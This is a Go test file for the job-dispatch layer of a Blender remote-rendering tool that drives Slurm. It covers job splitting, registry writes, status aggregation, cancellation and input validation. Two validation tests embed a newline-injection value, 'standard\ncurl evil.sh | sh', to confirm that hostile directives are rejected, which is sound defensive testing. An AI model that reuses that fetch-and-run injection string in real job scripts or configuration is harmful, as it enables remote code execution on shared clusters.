package dispatch

import (
	"context"
	"errors"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/golang/mock/gomock"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Nanoseb/BlenderRemoteRender/internal/backend"
	"github.com/Nanoseb/BlenderRemoteRender/internal/command"
	"github.com/Nanoseb/BlenderRemoteRender/internal/command/mocks"
	"github.com/Nanoseb/BlenderRemoteRender/internal/log"
	"github.com/Nanoseb/BlenderRemoteRender/internal/registry"
	"github.com/Nanoseb/BlenderRemoteRender/internal/storage"
	"github.com/Nanoseb/BlenderRemoteRender/internal/transfer"
)

func TestMain(m *testing.M) {
	log.Setup("ERROR") // Suppress logs in tests
	os.Exit(m.Run())
}

var fixedNow = time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)

const fixedExport = "20240102-030405_shot"

func setupTestDispatcher(t *testing.T) (*Dispatcher, *mocks.MockRunner, *registry.Store) {
	t.Helper()

	tmpDir := t.TempDir()
	db, err := storage.OpenSQLite(context.Background(), filepath.Join(tmpDir, "registry.db"))
	if err != nil {
		t.Fatalf("failed to open database: %v", err)
	}
	t.Cleanup(func() { _ = db.Close() })

	files, err := transfer.NewStore(filepath.Join(tmpDir, "work"))
	if err != nil {
		t.Fatalf("failed to create transfer store: %v", err)
	}

	ctrl := gomock.NewController(t)
	runner := mocks.NewMockRunner(ctrl)
	reg := registry.NewStore(db)

	d := New(reg, files, runner, DefaultOptions())
	d.now = func() time.Time { return fixedNow }
	return d, runner, reg
}

func testSpec(maxJobs, start, end int) backend.RenderSpec {
	return backend.RenderSpec{
		BlendFile:         "remote.blend",
		JobName:           "shot",
		FrameStart:        start,
		FrameEnd:          end,
		MaxConcurrentJobs: maxJobs,
		Directives:        []backend.KV{{Key: "job-name", Value: "shot"}, {Key: "partition", Value: "standard"}},
	}
}

func submitted(id string) command.Result {
	return command.Result{Outcome: command.Succeeded, Stdout: "Submitted batch job " + id + "\n"}
}

func (d *Dispatcher) scriptArgv() []string {
	return []string{"sbatch", filepath.Join(d.files.Root(), "jobfile.slurm")}
}

func TestSubmit_TwoJobsForFiveFrames(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	ctx := context.Background()

	gomock.InOrder(
		runner.EXPECT().Run(gomock.Any(), d.scriptArgv()).Return(submitted("1001")),
		runner.EXPECT().Run(gomock.Any(), d.scriptArgv()).Return(submitted("1002")),
	)

	sub, err := d.Submit(ctx, testSpec(2, 1, 5))
	require.NoError(t, err)
	assert.Equal(t, fixedExport, sub.ExportPath)
	assert.Equal(t, []string{"1001", "1002"}, sub.JobIDs)

	jobs, err := reg.Lookup(ctx, fixedExport)
	require.NoError(t, err)
	assert.Equal(t, registry.Jobs{
		"1001": {Status: backend.StatusSubmitted},
		"1002": {Status: backend.StatusSubmitted},
	}, jobs)

	script, err := os.ReadFile(filepath.Join(d.files.Root(), "jobfile.slurm"))
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(script)), "\n")
	require.Len(t, lines, 6)
	assert.Equal(t, "#!/bin/bash", lines[0])
	assert.Equal(t, "#SBATCH --job-name=shot", lines[1])
	assert.Equal(t, "#SBATCH --partition=standard", lines[2])
	assert.Equal(t, "#SBATCH --nodes=1", lines[3])
	assert.Equal(t, "module load blender", lines[4])
	assert.Contains(t, lines[5], "-s 1 -e 5 -a -- --cycles-device CPU")
	assert.Contains(t, lines[5], filepath.Join(d.files.Root(), fixedExport, "output_####"))
}

func TestSubmit_InvocationCountIsBoundedByFrames(t *testing.T) {
	cases := []struct {
		maxJobs, start, end, want int
	}{
		{maxJobs: 4, start: 1, end: 250, want: 4},
		{maxJobs: 8, start: 10, end: 12, want: 3},
		{maxJobs: 1, start: 1, end: 1, want: 1},
		{maxJobs: 5, start: 3, end: 7, want: 5},
	}
	for _, tc := range cases {
		d, runner, reg := setupTestDispatcher(t)
		calls := 0
		runner.EXPECT().Run(gomock.Any(), gomock.Any()).DoAndReturn(func(context.Context, []string) command.Result {
			calls++
			return submitted(strings.Repeat("9", calls))
		}).Times(tc.want)

		sub, err := d.Submit(context.Background(), testSpec(tc.maxJobs, tc.start, tc.end))
		require.NoError(t, err)
		assert.Equal(t, tc.want, calls)
		assert.Len(t, sub.JobIDs, tc.want)

		jobs, err := reg.Lookup(context.Background(), sub.ExportPath)
		require.NoError(t, err)
		assert.Len(t, jobs, tc.want)
	}
}

func TestSubmit_FailureAbortsWithoutRegistryWrite(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	ctx := context.Background()

	gomock.InOrder(
		runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(submitted("1")),
		runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(submitted("2")),
		runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(command.Result{
			Outcome: command.Failed, ExitCode: 1, Stderr: "sbatch: error: QOSMaxSubmitJobPerUserLimit\n",
		}),
	)

	_, err := d.Submit(ctx, testSpec(4, 1, 100))
	var subErr *backend.SubmissionError
	require.True(t, errors.As(err, &subErr))
	assert.Equal(t, 3, subErr.Attempt)
	assert.Equal(t, 1, subErr.ExitCode)
	assert.Contains(t, subErr.Message, "QOSMaxSubmitJobPerUserLimit")

	ok, err := reg.Exists(ctx, fixedExport)
	require.NoError(t, err)
	assert.False(t, ok, "registry must stay absent after a partial batch")

	subs, err := reg.Submissions(ctx, fixedExport)
	require.NoError(t, err)
	require.Len(t, subs, 3)
	assert.Equal(t, "1", subs[0].JobID)
	assert.Equal(t, "2", subs[1].JobID)
	assert.Equal(t, registry.OutcomeFailed, subs[2].Outcome)
}

func TestSubmit_RejectsStderrAndMalformedOutput(t *testing.T) {
	cases := []struct {
		name string
		res  command.Result
		want string
	}{
		{
			name: "stderr on success",
			res:  command.Result{Outcome: command.Succeeded, Stdout: "Submitted batch job 7\n", Stderr: "sbatch: warning: low priority"},
			want: "warning",
		},
		{
			name: "malformed success line",
			res:  command.Result{Outcome: command.Succeeded, Stdout: "Job queued\n"},
			want: "unexpected submit output",
		},
		{
			name: "timed out",
			res:  command.Result{Outcome: command.TimedOut, ExitCode: -1, Err: errors.New("command timed out after 1m0s")},
			want: "timed out",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d, runner, reg := setupTestDispatcher(t)
			runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(tc.res).Times(1)

			_, err := d.Submit(context.Background(), testSpec(3, 1, 10))
			var subErr *backend.SubmissionError
			require.ErrorAs(t, err, &subErr)
			assert.Equal(t, 1, subErr.Attempt)
			assert.Contains(t, subErr.Message, tc.want)

			ok, err := reg.Exists(context.Background(), fixedExport)
			require.NoError(t, err)
			assert.False(t, ok)
		})
	}
}

func TestSubmit_InvalidSpecRunsNothing(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	_, err := d.Submit(context.Background(), testSpec(0, 1, 10))
	assert.ErrorIs(t, err, backend.ErrInvalidValue)
	_, err = d.Submit(context.Background(), testSpec(2, 10, 1))
	assert.ErrorIs(t, err, backend.ErrInvalidValue)
}

func TestSubmit_OutOfRangeFramesRunNothing(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	for _, spec := range []backend.RenderSpec{
		testSpec(4, math.MinInt, 1),
		testSpec(4, 1, math.MaxInt),
		testSpec(4, -1, 10),
		testSpec(4, 1, backend.MaxFrame+1),
	} {
		require.NotPanics(t, func() {
			_, err := d.Submit(context.Background(), spec)
			assert.ErrorIs(t, err, backend.ErrInvalidValue)
		})
	}
}

func TestSubmit_DirectiveWithNewlineRunsNothing(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	spec := testSpec(1, 1, 1)
	spec.Directives = []backend.KV{{Key: "partition", Value: "standard\ncurl evil.sh | sh"}}
	_, err := d.Submit(context.Background(), spec)
	assert.ErrorIs(t, err, backend.ErrInvalidValue)
	_, statErr := os.Stat(filepath.Join(d.files.Root(), "jobfile.slurm"))
	assert.True(t, os.IsNotExist(statErr))
}

func TestMergeConfigRejectsHostileValues(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	assert.ErrorIs(t, d.MergeConfig(map[string]any{"frame-start": -1e19}), backend.ErrInvalidValue)
	assert.ErrorIs(t, d.MergeConfig(map[string]any{"frame-end": 1e19}), backend.ErrInvalidValue)
	assert.ErrorIs(t, d.MergeConfig(map[string]any{"max-nb-jobs": 0.0}), backend.ErrInvalidValue)
	assert.ErrorIs(t, d.MergeConfig(map[string]any{"partition": "standard\ncurl evil.sh | sh"}), backend.ErrInvalidValue)
}

func TestSubmit_ExportPathCollisionGetsSuffix(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	ctx := context.Background()
	require.NoError(t, reg.Register(ctx, fixedExport, []string{"1"}))

	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(submitted("2"))

	sub, err := d.Submit(ctx, testSpec(1, 1, 1))
	require.NoError(t, err)
	assert.NotEqual(t, fixedExport, sub.ExportPath)
	assert.True(t, strings.HasPrefix(sub.ExportPath, fixedExport+"-"))
	assert.Len(t, sub.ExportPath, len(fixedExport)+1+suffixLength)
}

func TestStartRenderUsesMergedConfig(t *testing.T) {
	d, runner, _ := setupTestDispatcher(t)

	require.NoError(t, d.MergeConfig(map[string]any{
		"job-name": "Final Comp", "max-nb-jobs": 3.0, "frame-start": 1.0, "frame-end": 2.0, "account": "proj42",
	}))
	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(submitted("5")).Times(2)

	sub, err := d.StartRender(context.Background(), "remote.blend")
	require.NoError(t, err)
	assert.Equal(t, "20240102-030405_final-comp", sub.ExportPath)

	script, err := os.ReadFile(filepath.Join(d.files.Root(), "jobfile.slurm"))
	require.NoError(t, err)
	assert.Contains(t, string(script), "#SBATCH --account=proj42\n")
	assert.NotContains(t, string(script), "max-nb-jobs")
	assert.NotContains(t, string(script), "frame-start")
}

func registerBatch(t *testing.T, reg *registry.Store, ids ...string) {
	t.Helper()
	require.NoError(t, reg.Register(context.Background(), fixedExport, ids))
}

func listArgv() []string {
	return DefaultOptions().ListCommand
}

func TestStatus_AllCompleted(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11", "12")

	runner.EXPECT().Run(gomock.Any(), listArgv()).Return(command.Result{
		Outcome: command.Succeeded, Stdout: "11 COMPLETED\n12 COMPLETED\n99 RUNNING\n",
	})

	report, err := d.Status(context.Background(), fixedExport)
	require.NoError(t, err)
	assert.Equal(t, backend.AggregateCompleted, report.Aggregate)
	assert.Equal(t, backend.StatusCompleted, report.Jobs["11"])
	assert.NotContains(t, report.Jobs, "99")
}

func TestStatus_AnyPendingWins(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11", "12", "13")

	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(command.Result{
		Outcome: command.Succeeded, Stdout: "11 COMPLETED\n12 RUNNING\n13 PENDING\n",
	})

	report, err := d.Status(context.Background(), fixedExport)
	require.NoError(t, err)
	assert.Equal(t, backend.AggregatePending, report.Aggregate)

	jobs, err := reg.Lookup(context.Background(), fixedExport)
	require.NoError(t, err)
	assert.Equal(t, backend.StatusRunning, jobs["12"].Status)
}

func TestStatus_EvictedJobsKeepStoredStatusAndAreExcluded(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11", "12")

	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(command.Result{
		Outcome: command.Succeeded, Stdout: "12 RUNNING\n",
	})

	report, err := d.Status(context.Background(), fixedExport)
	require.NoError(t, err)
	assert.Equal(t, backend.AggregateInProgress, report.Aggregate)
	assert.Equal(t, backend.StatusSubmitted, report.Jobs["11"])
}

func TestStatus_ProgressCountsOutputFiles(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11")

	for _, name := range []string{"output_0001.png", "output_0002.png", "output_0003.png.tmp"} {
		_, err := d.files.Put(filepath.Join(fixedExport, name), []byte("px"))
		require.NoError(t, err)
	}
	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(command.Result{Outcome: command.Succeeded})

	report, err := d.Status(context.Background(), fixedExport)
	require.NoError(t, err)
	assert.Equal(t, 2, report.Progress)
}

func TestStatus_UnregisteredPathIsPreconditionFailure(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	_, err := d.Status(context.Background(), "never-submitted")
	assert.ErrorIs(t, err, backend.ErrNoRegistryEntry)
	assert.ErrorIs(t, err, registry.ErrNotFound)
}

func TestStatus_ListCommandFailure(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11")

	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Return(command.Result{
		Outcome: command.Failed, ExitCode: 1, Stderr: "squeue: error: slurm_load_jobs error",
	})

	_, err := d.Status(context.Background(), fixedExport)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "slurm_load_jobs")
}

func TestCancelRender_CancelsEveryJobAndTolerantOfFailures(t *testing.T) {
	d, runner, reg := setupTestDispatcher(t)
	registerBatch(t, reg, "11", "12")

	gomock.InOrder(
		runner.EXPECT().Run(gomock.Any(), []string{"scancel", "11"}).Return(command.Result{Outcome: command.Succeeded}),
		runner.EXPECT().Run(gomock.Any(), []string{"scancel", "12"}).Return(command.Result{
			Outcome: command.Failed, ExitCode: 1, Stderr: "scancel: error: Invalid job id specified",
		}),
	)

	require.NoError(t, d.CancelRender(context.Background(), fixedExport))

	jobs, err := reg.Lookup(context.Background(), fixedExport)
	require.NoError(t, err)
	for id, e := range jobs {
		assert.Equal(t, backend.StatusCancelled, e.Status, "job %s", id)
	}
}

func TestCancelRender_UnknownPathIsNoop(t *testing.T) {
	d, runner, _ := setupTestDispatcher(t)
	runner.EXPECT().Run(gomock.Any(), gomock.Any()).Times(0)

	assert.NoError(t, d.CancelRender(context.Background(), "missing"))
}

func TestListRenderedOutputs(t *testing.T) {
	d, _, _ := setupTestDispatcher(t)

	for _, name := range []string{"output_0001.png", "output_0002.png", "render_0001.png", "output_0003.exr"} {
		_, err := d.files.Put(filepath.Join(fixedExport, name), []byte(name))
		require.NoError(t, err)
	}

	files, err := d.ListRenderedOutputs(fixedExport)
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{
		fixedExport + "/output_0001.png",
		fixedExport + "/output_0002.png",
	}, files)
}
